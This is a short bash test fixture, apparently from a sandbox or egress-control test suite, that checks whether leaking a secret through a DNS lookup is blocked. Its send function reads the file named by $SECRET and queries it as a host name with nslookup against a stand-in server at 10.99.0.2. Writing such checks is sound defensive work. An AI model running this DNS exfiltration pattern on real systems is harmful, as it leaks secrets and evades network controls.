# SPDX-License-Identifier: MIT
# shellcheck shell=bash
# channel: A name to resolve
# how: the secret as a host name, asked of a name server
# expect: blocked

send() {
	bash -c 'timeout 1 nslookup -port=7000 "$(cat "$1").example" 10.99.0.2' - \
		"$SECRET"
	return "$DONE" # nobody answers there
}
